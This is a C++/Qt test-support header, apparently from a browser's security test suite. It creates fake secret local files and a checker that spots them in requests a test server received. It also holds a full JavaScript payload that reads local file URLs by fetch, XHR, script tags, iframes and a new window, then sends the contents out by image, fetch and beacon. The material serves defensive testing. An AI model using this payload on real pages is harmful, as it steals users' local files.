#pragma once

#include <QByteArray>
#include <QFile>
#include <QString>
#include <QStringList>
#include <QTemporaryDir>
#include <QUrl>

#include "support/testserver.h"

// Local files that a hostile page, board or box goes for, each holding secret(): "secret.txt"
// and "secret.js" (which, run as a script, puts the secret into window.__secretJs) in a
// folder of their own whose listing names a file after the secret, and "same.txt" beside a
// page of the test's (writeBeside).
class LocalSecrets {
  public:
    static QByteArray secret() { return QByteArrayLiteral("LOCAL-SECRET-7d41"); }

    LocalSecrets() {
        write(QStringLiteral("secret.txt"), secret() + "\n");
        write(QStringLiteral("secret.js"), "window.__secretJs = '" + secret() + "';\n");
        // A folder listing gives names away.
        write(QString::fromLatin1(secret()) + QStringLiteral(".name"), QByteArray());
    }
    bool isValid() const { return dir_.isValid(); }
    QString filePath(const QString& name) const { return dir_.filePath(name); }
    QString fileUrl(const QString& name) const {
        return QUrl::fromLocalFile(filePath(name)).toString();
    }
    // Every secret file by address, the folder listing too.
    QStringList fileUrls() const {
        return {fileUrl(QStringLiteral("secret.txt")), fileUrl(QStringLiteral("secret.js")),
                QUrl::fromLocalFile(dir_.path() + QLatin1Char('/')).toString()};
    }
    // A secret beside the page at path, which a page's "own folder" would reach.
    static bool writeBeside(const QString& pagePath) {
        QFile f(pagePath.section(QLatin1Char('/'), 0, -2) + QStringLiteral("/same.txt"));
        return f.open(QIODevice::WriteOnly) && f.write(secret()) == secret().size();
    }

  private:
    void write(const QString& name, const QByteArray& bytes) {
        QFile f(dir_.filePath(name));
        if (f.open(QIODevice::WriteOnly)) f.write(bytes);
    }
    QTemporaryDir dir_;
};

// JavaScript (one expression) that tries every road to the files (fetch, XHR, script
// elements, frames, a new window) and, a moment later, sends whatever it got to sink by
// picture, fetch and beacon. It leaves what it read in window.__stolen and sets window.__done.
inline QString stealingScript(const QStringList& fileUrls, const QString& sink) {
    QStringList quoted;
    for (const QString& f : fileUrls) quoted << QLatin1Char('\'') + f + QLatin1Char('\'');
    return QStringLiteral(R"JS((function () {
  var files = [%1], sink = '%2', got = [];
  function keep(t) { if (t) got.push(String(t)); }
  files.forEach(function (f) {
    try { fetch(f).then(function (r) { return r.text(); }).then(keep, function () {}); } catch (e) {}
    try { var x = new XMLHttpRequest(); x.open('GET', f, false); x.send(); keep(x.responseText); }
    catch (e) {}
    var s = document.createElement('script'); s.src = f; document.documentElement.appendChild(s);
    var i = document.createElement('iframe'); i.src = f;
    i.onload = function () {
      try { keep(i.contentDocument.documentElement.innerText); } catch (e) {}
    };
    document.documentElement.appendChild(i);
  });
  try { var w = window.open(files[0]); } catch (e) {}
  setTimeout(function () {
    keep(window.__secretJs);
    try { if (w) keep(w.document.documentElement.innerText); } catch (e) {}
    var stolen = got.join('|');
    window.__stolen = stolen;
    try { new Image().src = sink + '?img=' + encodeURIComponent(stolen); } catch (e) {}
    try { fetch(sink + '?fetch=' + encodeURIComponent(stolen), {method: 'POST', body: stolen,
                                                                mode: 'no-cors'}); } catch (e) {}
    try { navigator.sendBeacon(sink + '?beacon=1', stolen); } catch (e) {}
    window.__done = true;
  }, 1500);
  return 1;
})())JS")
        .arg(quoted.join(QLatin1Char(',')), sink);
}

// Whether any request the server received carried the secret, in its address or its body.
inline bool serverGotSecret(const TestServer& server) {
    for (const TestServer::Request& r : server.requests()) {
        const QByteArray all = r.path + '?' + r.query + ' ' + r.body;
        if (all.contains(LocalSecrets::secret()) ||
            QByteArray::fromPercentEncoding(all).contains(LocalSecrets::secret()))
            return true;
    }
    return false;
}
